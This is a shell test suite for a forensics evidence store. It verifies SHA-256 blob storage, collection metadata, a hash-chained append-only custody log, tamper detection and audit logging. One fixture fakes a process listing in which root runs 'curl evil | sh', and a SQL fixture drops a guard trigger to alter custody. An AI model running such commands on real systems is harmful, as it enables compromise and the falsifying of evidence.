#!/bin/sh
# evidence: files stored once by SHA-256 under the workspace with the
# store's modes; metadata as collected; custody hash-chained and
# append-only; evidence check catches a flipped byte, a missing blob and a
# broken chain (exit 1); every change audited.
. "$FB_SRCDIR/tests/lib.sh"
require_prog jq
require_prog sqlite3

fb -w "$WS" init >/dev/null
fbw() { fb -w "$WS" "$@"; }
fbw case new "gpu-07 compromise" --severity critical >/dev/null

printf 'USER PID COMMAND\nroot 4242 /bin/sh -c curl evil | sh\n' >ps.txt
cp ps.txt ps-copy.txt
chmod 640 ps.txt
touch -d 2026-11-26T02:44:00Z ps.txt
head -c 200000 /dev/urandom >core.bin
SHA=$(sha256sum ps.txt | cut -d" " -f1)
# Tampering with custody needs its guard trigger out of the way.
cat >tamper.sql <<'EOF'
DROP TRIGGER custody_no_update;
UPDATE custody SET holder = holder || 'x' WHERE evidence = 2;
EOF
cat >untamper.sql <<'EOF'
UPDATE custody SET holder = substr(holder, 1, length(holder) - 1) WHERE evidence = 2;
CREATE TRIGGER custody_no_update BEFORE UPDATE ON custody BEGIN
  SELECT RAISE(ABORT, 'custody is append-only'); END;
EOF
blob() { echo "$WS/blobs/$(echo "$1" | cut -c1-2)/$(echo "$1" | cut -c3-)"; }

test_expect_success 'evidence add stores each file once, by its SHA-256' '
	fbw evidence add --case 1 --note "ps on gpu-07" ps.txt ps-copy.txt core.bin >out &&
	expect_grep "evidence #1" out && expect_grep "evidence #3" out &&
	[ -f "$(blob "$SHA")" ] &&
	expect_eq "$(sha256sum <"$(blob "$SHA")" | cut -d" " -f1)" "$SHA" &&
	big=$(sha256sum core.bin | cut -d" " -f1) &&
	cmp core.bin "$(blob "$big")" &&
	expect_eq "$(find "$WS/blobs" -type f | wc -l)" 2 &&
	expect_eq "$(fbw evidence ls --json | jq -r .sha256 | sort | uniq -c | awk "{print \$1}" | sort | tr "\n" " ")" "1 2 "
'

test_expect_success 'blobs take the private workspace modes' '
	expect_eq "$(stat -c %a "$(blob "$SHA")")" 600 &&
	expect_eq "$(stat -c %a "$(dirname "$(blob "$SHA")")")" 700 &&
	expect_eq "$(find "$WS/blobs" -name ".tmp-*" | wc -l)" 0
'

test_expect_success 'an item records where, when and how it was collected' '
	fbw evidence show --json 1 >e &&
	expect_eq "$(jq -r .path e)" "$(realpath ps.txt)" &&
	expect_eq "$(jq -r .source_host e)" "$(hostname)" &&
	expect_eq "$(jq -r .orig_mode e)" 0640 &&
	expect_eq "$(jq -r .orig_mtime e)" 2026-11-26T02:44:00Z &&
	expect_eq "$(jq -r .orig_owner e)" "$(stat -c %U:%G ps.txt)" &&
	expect_eq "$(jq -r .size e)" "$(stat -c %s ps.txt)" &&
	expect_eq "$(jq -r .note e)" "ps on gpu-07" &&
	expect_eq "$(jq -r .collector e)" "evidence add" &&
	expect_eq "$(jq -r .collected_by e)" "$(id -un)" &&
	expect_eq "$(jq -r .case e)" 1 &&
	[ "$(jq -r .started e)" \< "$(jq -r .finished e)" ] || [ "$(jq -r .started e)" = "$(jq -r .finished e)" ]
'

test_expect_success 'custody is a hash chain an auditor recomputes with jq and sha256sum' '
	fbw evidence show --json 1 | jq -c ".custody[]" >cust &&
	expect_eq "$(wc -l <cust)" 1 &&
	expect_eq "$(jq -r .action cust)" collected &&
	expect_eq "$(jq -r .prev_hash cust)" 0000000000000000000000000000000000000000000000000000000000000000 &&
	expect_eq "$(jq -r .sha256 cust)" "$SHA" &&
	expect_eq "$(jq -cS "del(.hash)" cust | tr -d "\n" | sha256sum | cut -d" " -f1)" "$(jq -r .hash cust)"
'

test_expect_success 'the database refuses to change or delete custody' '
	! sqlite3 "$WS/store.db" "UPDATE custody SET holder=upper(holder) WHERE seq=1" 2>err &&
	expect_grep "append-only" err &&
	! sqlite3 "$WS/store.db" "DELETE FROM custody" 2>err &&
	expect_grep "append-only" err
'

test_expect_success 'the case timeline shows evidence and custody' '
	fbw case timeline --json 1 >tl &&
	expect_eq "$(jq -r "select(.kind==\"evidence\") | .evidence" tl | tr "\n" " ")" "1 2 3 " &&
	expect_eq "$(jq -r "select(.kind==\"custody\") | .evidence" tl | tr "\n" " ")" "1 2 3 "
'

test_expect_success 'evidence check passes on an intact store' '
	fbw evidence check >out &&
	expect_grep "2 blobs intact" out
'

test_expect_code 1 'evidence check catches a flipped byte' '
	cp "$(blob "$SHA")" saved &&
	chmod u+w "$(blob "$SHA")" &&
	printf "X" | dd of="$(blob "$SHA")" bs=1 seek=5 conv=notrunc 2>/dev/null &&
	fbw evidence check >out; rc=$?
	grep -q "$SHA  evidence #1: hash differs" out && exit $rc
'

test_expect_code 1 'evidence check catches a missing blob' '
	rm -f "$(blob "$SHA")" &&
	fbw evidence check --json >out; rc=$?
	expect_eq "$(jq -r .problem out)" missing && expect_eq "$(jq -r .sha256 out)" "$SHA" && exit $rc
'

test_expect_success 'restored, it checks clean again' '
	cp saved "$(blob "$SHA")" && chmod 600 "$(blob "$SHA")" &&
	fbw evidence check
'

test_expect_code 1 'evidence check catches an edited custody row' '
	sqlite3 "$WS/store.db" <tamper.sql &&
	fbw evidence check >out; rc=$?
	sqlite3 "$WS/store.db" <untamper.sql &&
	grep -q "evidence #2: custody chain broken at" out && exit $rc
'

test_expect_success 'undone, the chain checks clean again' '
	fbw evidence check
'

test_expect_code 6 'evidence for a case that does not exist is refused, nothing stored' '
	n=$(fbw evidence ls --json | wc -l) &&
	fbw evidence add --case 99 ps.txt 2>err; rc=$?
	grep -q "no case 99" err && expect_eq "$(fbw evidence ls --json | wc -l)" "$n" && exit $rc
'

test_expect_code 4 'some files stored, some not: partial' '
	echo other >other.txt &&
	fbw evidence add --case 1 other.txt no-such-file
'

test_expect_success 'standard input is evidence too, under --name' '
	printf "Nov 26 02:43:19 gpu-07 kernel: NVRM: Xid 79\n" >dmesg.txt &&
	fbw evidence add --case 1 --name dmesg-gpu-07.txt - <dmesg.txt >out &&
	id=$(sed -n "s/^evidence #\([0-9]*\).*/\1/p" out) &&
	fbw evidence show --json "$id" >e &&
	expect_eq "$(jq -r .name e)" dmesg-gpu-07.txt &&
	expect_eq "$(jq -r .kind e)" stdin &&
	expect_eq "$(jq -r .sha256 e)" "$(sha256sum <dmesg.txt | cut -d" " -f1)" &&
	expect_eq "$(jq -r .path e)" null
'

test_expect_code 2 'a FIFO is refused, not waited on' '
	mkfifo pipe &&
	fbw evidence add --case 1 pipe 2>err; rc=$?
	grep -q "not a regular file" err && exit $rc
'

test_expect_code 3 'a file over evidence.max_bytes is refused' '
	fbw config set evidence.max_bytes 1K &&
	fbw evidence add --case 1 core.bin; rc=$?
	fbw config set --reset evidence.max_bytes; exit $rc
'

test_expect_success 'a team workspace stores blobs group-readable' '
	fb -w "$TEST_TMP/team" init --group "$(id -gn)" >/dev/null &&
	fb -w "$TEST_TMP/team" case new t >/dev/null &&
	fb -w "$TEST_TMP/team" evidence add --case 1 ps.txt >/dev/null &&
	expect_eq "$(stat -c %a "$TEST_TMP/team/blobs/$(echo "$SHA" | cut -c1-2)/$(echo "$SHA" | cut -c3-)")" 660 &&
	expect_eq "$(stat -c %a "$TEST_TMP/team/blobs/$(echo "$SHA" | cut -c1-2)")" 2770
'

test_expect_success 'merging a case hands its evidence over; custody says so and verifies' '
	fbw case new "umbrella incident" >/dev/null &&
	fbw case merge 1 2 &&
	expect_eq "$(fbw evidence ls --case 2 --json | wc -l)" 5 &&
	fbw evidence show --json 1 | jq -c ".custody[]" >cust &&
	expect_eq "$(jq -r .action cust | tr "\n" " ")" "collected transferred " &&
	expect_eq "$(jq -r .holder cust | tail -n 1)" "case #2" &&
	expect_eq "$(sed -n 2p cust | jq -r .prev_hash)" "$(sed -n 1p cust | jq -r .hash)" &&
	while read -r row; do
		expect_eq "$(printf "%s" "$row" | jq -cS "del(.hash)" | tr -d "\n" | sha256sum | cut -d" " -f1)" \
		    "$(printf "%s" "$row" | jq -r .hash)" || exit 1
	done <cust &&
	fbw evidence check
'

test_expect_success 'every change is audited, and the chain verifies' '
	fbw audit ls --json | jq -r .action >actions &&
	expect_eq "$(grep -cx evidence.add actions)" 5 &&
	grep -qx case.merge actions &&
	grep -qx evidence.check actions &&
	fbw audit verify
'

test_done
